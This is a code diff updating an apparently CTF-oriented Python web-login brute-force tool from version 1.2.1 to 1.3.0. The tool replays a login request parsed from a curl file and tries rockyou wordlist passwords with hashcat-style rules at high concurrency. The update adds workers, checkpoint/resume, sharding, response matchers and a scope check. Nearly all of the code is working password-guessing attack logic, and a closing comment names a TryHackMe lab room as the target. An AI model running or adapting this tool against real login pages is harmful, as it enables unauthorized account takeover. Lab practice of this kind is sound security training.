@@ -1,13 +1,31 @@
-import aiohttp
 import asyncio
 import argparse
+import itertools
 import urllib.parse
 import json
 import os
 import re
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from util.checkpoint import Checkpoint, CheckpointError
+from util.http_session import create_session
+from util.matchers import (
+    RegexMatcher,
+    ResponseInfo,
+    add_matcher_arguments,
+    matchers_from_args,
+)
+from util.request_template import RequestTemplate
+from util.rules import RuleError, apply_rules, load_rules
+from util.scope import add_scope_arguments, scope_from_args
+from util.stats import Throughput
+from util.wordlist import iter_wordlist
+from util.wordlist_index import add_slice_arguments, slice_from_args
 
 """
-v1.2.1
+v1.3.0
 tested in 
 - python 3.10.6
 - python 3.12.3
@@ -16,50 +34,86 @@ pip3 install aiohttp
 """
 
 
-async def post(session, index, FUZZ, filter, semaphore, url, headers, payload_template):
-    payload = {
-        key: value.replace("FUZZ", FUZZ) if "FUZZ" in value else value
-        for key, value in payload_template.items()
-    }
-
-    # CHECK PAYLOADS
-    if headers.get("Content-Type") == "application/x-www-form-urlencoded":
-        data = payload
-    if headers.get("Content-Type") == "application/json":
-        data = json.dumps(payload)
+async def post(
+    session, index, FUZZ, matchers, url, headers, template, stats, checkpoint, found
+):
+    data = template.render(FUZZ)
 
-    async with semaphore:
-        try:
-            async with session.post(url, data=data, headers=headers) as response:
-                text = await response.text()
-                if filter in text:
-                    response.status = 401
-                    status = "Failed"
-                else:
-                    status = "CHECK THIS!"
-                    print()
-                    print("[!] POSSIBLE PASSWORD ")
-                    print(f"{index}: {FUZZ}")
-                    os._exit(1)
-
-                LINE_CLEAR = "\x1b[2K"  # <-- ANSI sequence
-                print(index, response.status, status, FUZZ, end="\r", flush=True)
-                print(end=LINE_CLEAR)
-                return response.status
-        except Exception as e:
-            print(f"[-] Request failed: {e}")
-            return None
-
-
-def read_file_to_array(file_path):
-    expanded_path = os.path.expanduser(file_path)
     try:
-        with open(expanded_path, "r", encoding="latin-1") as file:
-            lines = file.readlines()
-        return [line.strip() for line in lines]
+        start = time.monotonic()
+        async with session.post(url, data=data, headers=headers) as response:
+            elapsed = time.monotonic() - start
+            body = None
+            if matchers.wants_body(response.content_length):
+                body = await response.read()
+            stats.add()
+
+            result = ResponseInfo(response.status, response.content_length, body, elapsed)
+            if matchers.is_hit(result):
+                status = "CHECK THIS!"
+                print()
+                print("[!] POSSIBLE PASSWORD ")
+                print(f"{index}: {FUZZ}")
+                print(f"status: {response.status} time: {elapsed * 1000:.0f}ms")
+                checkpoint.hit(index, FUZZ)
+                found.set()
+            else:
+                status = "Failed"
+
+            LINE_CLEAR = "\x1b[2K"  # <-- ANSI sequence
+            print(
+                index, response.status, status, FUZZ, f"{stats.rate:.1f} req/s",
+                end="\r", flush=True,
+            )
+            print(end=LINE_CLEAR)
+            return response.status
     except Exception as e:
-        print(f"Error reading file: {e}")
-        return []
+        print(f"[-] Request failed: {e}")
+        return None
+
+
+async def worker(queue, session, checkpoint, found, retries=3, **kwargs):
+    # long-lived consumer, keeps exactly one request in flight at all times
+    while True:
+        item = await queue.get()
+        try:
+            if item is None:
+                return
+            if found.is_set():
+                continue  # drain whatever the producer queued before the hit
+            index, password = item
+            for _ in range(retries):
+                status = await post(
+                    session=session,
+                    index=index,
+                    FUZZ=password,
+                    checkpoint=checkpoint,
+                    found=found,
+                    **kwargs,
+                )
+                if status is not None:
+                    checkpoint.finished(index)
+                    break
+            else:
+                # written to the checkpoint as skipped, so the resume point keeps moving
+                print(f"[-] Giving up on {index}: {password}")
+                checkpoint.skipped(index, password)
+        finally:
+            queue.task_done()
+
+
+async def produce(queue, password_list, checkpoint, found, workers):
+    # rule candidates share their base word's offset, the whole expansion is
+    # registered before any of it is queued so the offset can't complete early
+    for index, group in itertools.groupby(password_list, key=lambda item: item[0]):
+        if found.is_set():
+            break
+        candidates = [password for _, password in group]
+        checkpoint.started(index, len(candidates))
+        for password in candidates:
+            await queue.put((index, password))
+    for _ in range(workers):
+        await queue.put(None)
 
 
 def parse_curl_command(file_path):
@@ -84,34 +138,65 @@ def parse_curl_command(file_path):
     return url, headers, data
 
 
-async def main(url, headers, payload, filter_string):
-    file_path = "~/wordlists/rockyou.txt"
-    password_list = read_file_to_array(file_path)
-    concurrent_limit = 50
-    semaphore = asyncio.Semaphore(concurrent_limit)
-
-    tasks = []
-    async with aiohttp.ClientSession() as session:
-        for i in range(0, len(password_list), concurrent_limit):
-            batch = password_list[i : i + concurrent_limit]
-
-            for j, password in enumerate(batch):
-                task = asyncio.ensure_future(
-                    post(
-                        session=session,
-                        index=i + j,
-                        FUZZ=password,
-                        filter=filter_string,
-                        semaphore=semaphore,
+async def main(url, headers, payload, matchers, rules, args):
+    checkpoint_path = args.checkpoint or f"{args.curl}.checkpoint"
+    # --shard / --range resolved to a byte slice through the wordlist index
+    slice_start, end_offset = slice_from_args(args, args.wordlist)
+    start_offset = max(args.start_offset, slice_start)
+    if args.resume:
+        try:
+            completed, hits, skipped = Checkpoint.load(checkpoint_path, args.wordlist)
+        except (OSError, CheckpointError) as e:
+            print(f"[-] Cannot resume: {e}")
+            sys.exit(1)
+        for hit in hits:
+            print(f"[!] Previous hit {hit['offset']}: {hit['hit']}")
+        for skip in skipped:
+            print(f"[-] Skipped earlier, never tested {skip['offset']}: {skip['skipped']}")
+        start_offset = max(Checkpoint.resume_offset(completed), slice_start)
+        print(f"[+] Resuming {args.wordlist} from byte offset {start_offset}")
+
+    # rules expand each word lazily, candidates keep the offset of their base word
+    words = iter_wordlist(args.wordlist, start_offset=start_offset, end_offset=end_offset)
+    password_list = apply_rules(words, rules)
+    # bounded so the producer never runs more than a couple of batches ahead
+    queue = asyncio.Queue(maxsize=args.concurrency * 2)
+    stats = Throughput()
+    found = asyncio.Event()
+    # static body encoded once, only the candidate is encoded per request
+    template = RequestTemplate(payload, headers.get("Content-Type"))
+
+    with Checkpoint(checkpoint_path).open(args.wordlist) as checkpoint:
+        session, connection_stats = create_session(args.concurrency)
+        async with session:
+            workers = [
+                asyncio.create_task(
+                    worker(
+                        queue,
+                        session,
+                        checkpoint,
+                        found,
+                        matchers=matchers,
                         url=url,
                         headers=headers,
-                        payload_template=payload,
+                        template=template,
+                        stats=stats,
                     )
                 )
-                tasks.append(task)
+                for _ in range(args.concurrency)
+            ]
+            try:
+                await produce(queue, password_list, checkpoint, found, len(workers))
+                await asyncio.gather(*workers)
+            finally:
+                # on Ctrl-C stop the workers before the session goes away
+                for task in workers:
+                    task.cancel()
 
-            responses = await asyncio.gather(*tasks)
-            tasks = []  # Clear tasks for the next batch
+    print()
+    print(f"[+] {stats.summary()}")
+    print(f"[+] {connection_stats.summary()}")
+    print(f"[+] Progress saved to {checkpoint_path}")
 
 
 if __name__ == "__main__":
@@ -122,18 +207,59 @@ if __name__ == "__main__":
     parser.add_argument(
         "--filter_string",
         type=str,
-        help="String/Phrase when login page is unsuccesful",
-        required=True,
+        help="String/Phrase when login page is unsuccesful, same as -fr with the phrase escaped",
     )
+    parser.add_argument(
+        "--wordlist",
+        type=str,
+        help="Password wordlist",
+        default="~/wordlists/rockyou.txt",
+    )
+    parser.add_argument(
+        "--rules",
+        type=str,
+        help="Hashcat-style rules file applied to every word",
+    )
+    parser.add_argument(
+        "--start-offset",
+        type=int,
+        help="Byte offset in the wordlist to start from",
+        default=0,
+    )
+    parser.add_argument(
+        "--concurrency",
+        type=int,
+        help="Number of requests kept in flight",
+        default=50,
+    )
+    parser.add_argument(
+        "--checkpoint",
+        type=str,
+        help="Progress file (default: <curl file>.checkpoint)",
+    )
+    parser.add_argument(
+        "--resume",
+        action="store_true",
+        help="Continue from the offset saved in the checkpoint",
+    )
+    add_slice_arguments(parser)
+    add_matcher_arguments(parser)
+    add_scope_arguments(parser)
     args = parser.parse_args()
 
     url, headers, payload = parse_curl_command(args.curl)
+    # every request goes to this one url, checking it once covers them all
+    if not scope_from_args(args, default=[url]).allows(url):
+        parser.error(f"{url} is out of scope")
     filter_string = args.filter_string
-    """
-    to add filter by: 
-    - response size 
-    - response status code
-    """
+    extra_filters = [RegexMatcher(re.escape(filter_string))] if filter_string else []
+    matchers = matchers_from_args(args, extra_filters)
+    if not matchers:
+        parser.error("give --filter_string or at least one -m*/-f* matcher")
+    try:
+        rules = load_rules(args.rules) if args.rules else []
+    except (OSError, RuleError) as e:
+        parser.error(str(e))
     print("=" * 100)
     print("[+] WEB LOGIN BRUTEFORCE")
     print("\tauthor: @codeandrew")
@@ -142,8 +268,14 @@ if __name__ == "__main__":
     print("headers:", json.dumps(headers, indent=4))
     print("payload:", json.dumps(payload, indent=4))
     print("filter_string:", json.dumps(filter_string, indent=4))
+    print("wordlist:", args.wordlist, "start offset:", args.start_offset)
+    print("rules:", args.rules, f"({len(rules)} rules)" if rules else "")
     print("=" * 100)
-    asyncio.run(main(url, headers, payload, filter_string))
+    try:
+        asyncio.run(main(url, headers, payload, matchers, rules, args))
+    except KeyboardInterrupt:
+        print()
+        print("[-] Interrupted, run again with --resume to continue")
 
 """
 targeting: https://tryhackme.com/r/room/hackpark